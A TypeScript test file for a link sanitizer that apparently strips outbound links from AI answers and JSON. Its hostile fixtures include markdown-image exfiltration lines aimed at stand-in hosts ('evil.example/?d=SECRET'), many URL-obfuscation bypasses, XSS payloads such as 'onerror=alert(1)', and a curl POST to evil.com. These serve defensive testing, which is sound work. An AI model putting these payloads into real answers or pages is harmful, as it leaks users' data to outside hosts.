import tlds from 'tlds' with { type: 'json' }
import { describe, expect, it } from 'vitest'
import { growth } from '../../../testing/test/growth.ts'
import { isHostLike } from '../../src/flow/host-like.ts'
import { removeLinksFromJson } from '../../src/flow/json-answer.ts'
import { hostFilter, isAllowedUrl, removeLinks } from '../../src/flow/links.ts'
import { leadsElsewhere } from './readers.ts'

const may = hostFilter(['good.test', '*.example.org'])
const allowed = new Set(['good.test', 'a.example.org'])
const fence = '```'

/** What got through, or would have with a rule less. */
const hostile = [
  '](![y](http:evil.example/?d=SECRET)',
  '[^1]: ![y](http:evil.example/?d=SECRET)\n\nSee[^1].',
  '<a@evil.com>',
  'a@evil.com, or a@evil.technology',
  'Go to evil.technology, or evil.com.',
  '[x]: <http:evil.com>\n\n![x]',
  '[x\ny]:\n  evil.com\n\n![x\ny]',
  '[link removed]: http:evil.com\n\nhttps://evil.com',
  '![x](/pixel?d=SECRET) ![x](pixel.png) ![x](#a)',
  `${fence}js\nlet a = 1\n${fence}\n![y](http:evil.com)`,
  `- a\n\n    ${fence}\n  ${fence}x\n    ${fence}\n  ![y](http:evil.com)`,
  `<div>\n${fence}\n<img src="http:evil.com">\n${fence}`,
  `[x]: https://good.test "a\n${fence}\n"\n![y](http:evil.com)\n${fence}`,
  `[\n${fence}\n]: x\n![y](http:evil.com)\n${fence}`,
  `${fence}|a\n-|-\n![y](http:evil.com)|b`,
  '`a\n\n`b`![y](http:evil.com)`',
  'https://good.test/`a ![y](http:evil.com)`',
  '| a | b |\n|---|---|\n| `a | ![y](http:evil.com)` |',
  '[`![y](http:evil.com)` `',
  'https://good.test@evil.com https://good.test\\@evil.com https://good.test&period;evil.com https://good.test,x.evil.com',
  'https://good.test/?r=x*http://evil.com* https://good.test/x??evil.com https://good.test/a---http://evil.com',
  '[x](https://good.test\u3002evil.com) [x](https://good.test&Tab;.evil.com) [x](https://good.test:80@evil.com/)',
  'h&#116;tp://evil.com http&colon;//evil.com www&period;evil.com a&commat;evil.com',
  'ht\\tp://evil.com http\\://evil.com www\\.evil.com a\\@evil.com',
  '//evil.com ///evil.com \\/\\/evil.com //u@evil',
  '<img src=x onerror=alert(1)> <p style="background:url(//evil.com)"> <!-- --> <?x ?> <![CDATA[x]]>',
  'data:text/html,x javascript:alert(1) mailto:a@evil',
  'c:\\\\//evil.com x:\\\\http://evil.com',
]

/** Text that leads nowhere, or where it may. */
const harmless = [
  'Plain text: a](b, (c) [d] and <3, a < b, 3 > 2, {x}, "y". It costs $5.00, e.g. at 10:30 p.m.; see v1.2.3-rc.1 & §4.',
  '# Title\n\n- **bold**, *it*, ~~no~~\n- [ ] to do\n- [x] done\n\n1. one\n2. two\n\n> quote\n\n---\n',
  'See [the docs](https://good.test/docs/a_b?x=1&y=2#part), ![logo](https://a.example.org/logo.png "Logo") and https://good.test.',
  '[1]: https://good.test/x "Title"\n\nSee [this][1] <https://good.test/a>.',
  'A note[^1] and [a place](#top).\n\n[^1]: Some words about it.',
  '| a | b |\n|---|---|\n| 1<br>2 | index.ts, package.json and Node.js |',
  `Run this:\n\n${fence}bash\ncurl -X POST "https://evil.com/a?b=1" # [x](http://evil.com)\n${fence}\n\nThen that.`,
  `1. Step\n   ${fence}ts\n   const a: Map<string, number> = load('https://evil.com')\n   ${fence}\n2. Next`,
  `~~~\n![x](http://evil.com)\n~~~\n\n${fence}${fence}`,
  'Call `fetch("https://evil.com/x")`, or `a[0](b)`, with `x@y.com` in `README.md`.',
  'The `Promise<string>` of `obj.method()` is <b>bold</b> here.',
  'x\r\ny\r\n\r\nz\tw  \n',
  'It is in C:\\\\Users\\\\ann\\\\notes.txt, or C:\\Users\\ann.',
]

describe('links of answers', () => {
  it.each(hostile)('lead nowhere in any reader: %s', (text) => {
    expect(leadsElsewhere(text, allowed).length + Number(/onerror|<p|data:|&|\\/.test(text))).toBeGreaterThan(0)
    expect(leadsElsewhere(removeLinks(text, may), allowed)).toEqual([])
  })

  it.each(harmless)('leave harmless text as it is: %s', (text) => {
    expect(removeLinks(text, may)).toBe(text)
    expect(leadsElsewhere(text, allowed)).toEqual([])
  })

  it('are written so that people can still read them', () => {
    const text = 'Mail ann@acme.example or see [the page](https://evil.com/x "t"), README.md and <img src="a.png">.'
    expect(removeLinks(text, may)).toBe(
      'Mail ann@acme[.]example or see [the page] ([link removed] "t"), README[.]md and &lt;img src="a.png">.',
    )
  })

  it('take no ending of a file for harmless that is a top-level domain', () => {
    expect((tlds as unknown as string[]).filter((end) => !isHostLike(`a.${end}`))).toEqual([])
  })

  it('are found in values of JSON, also where it was cut', () => {
    const clean = (json: string) => removeLinksFromJson(json, may)
    expect(clean('{"a":"\\u0068ttps://evil.com","n":1.50}')).toBe('{"a":"[link removed]","n":1.5}')
    expect(clean('{"a": "fine", "n":1.50}')).toBe('{"a": "fine", "n":1.50}')
    expect(clean('{"a":"\\u0068ttps://evil.com/x","b":"![x](\\u002f\\u002fevil.com\\u00')).toBe(
      '{"a":"[link removed]","b":"![x] ([link removed]',
    )
  })

  it.each([
    ['{"a":"![x](https://evil.com)","a":"fine"}', '{"a":"fine"}'],
    ['[{"a":{"b":"www.evil.com"},"\\u0061":1}]', '[{"a":1}]'],
    ['{"https://evil.com":1,"https://evil.com":2}', '{"[link removed]":2}'],
    ['{"a":"\\\\","b":"\\"a\\":"}', '{"a":"\\\\","b":"\\"a\\":"}'],
  ])('hide in no key that an object has twice: %s', (json, clean) => {
    expect(removeLinksFromJson(json, may)).toBe(clean)
  })

  it('may be addresses with an allowed origin, and no others', () => {
    expect(
      ['https://good.test', 'https://good.test/a?b=1', 'http://a.example.org/'].map((url) => isAllowedUrl(url, may)),
    ).toEqual([true, true, true])
    for (const url of [
      'https://good.test@evil.com',
      'https://evil.com',
      '//good.test',
      'https:good.test',
      'ftp://good.test/',
      'https://good.test\\@evil.com',
    ])
      expect([url, isAllowedUrl(url, may)]).toEqual([url, false])
  })
})

/** What comes again and again in a text that is to be made slow. */
const units = [
  ...[
    'a.',
    'a-',
    '<a',
    '<a ',
    '](',
    ']:',
    '//',
    'https:',
    'www.',
    '&#58;',
    '\\/',
    'a.com',
    '=',
    'x ',
    '[',
    '![',
    '<',
    ']',
    '`',
    '` ``',
    '@a',
    'a@',
    '://',
  ],
  ...['https://good.test/', '[x]: a b ', '\n[a]:', '\n```', '\n>', '\r', '"\\u', '<b>', 'x\n', 'a.-', '.@', '\\`'],
]

describe('the work that links of answers take', () => {
  it.each(units)('grows with the text, and not faster: %s', async (unit) => {
    const clean = (length: number) => {
      const text = unit.repeat(Math.ceil(length / unit.length))
      removeLinks(text, may)
      removeLinksFromJson(`"${text}`, may)
    }
    expect(await growth(clean, 50_000, 200_000, 12)).toBeLessThan(12)
  })
})
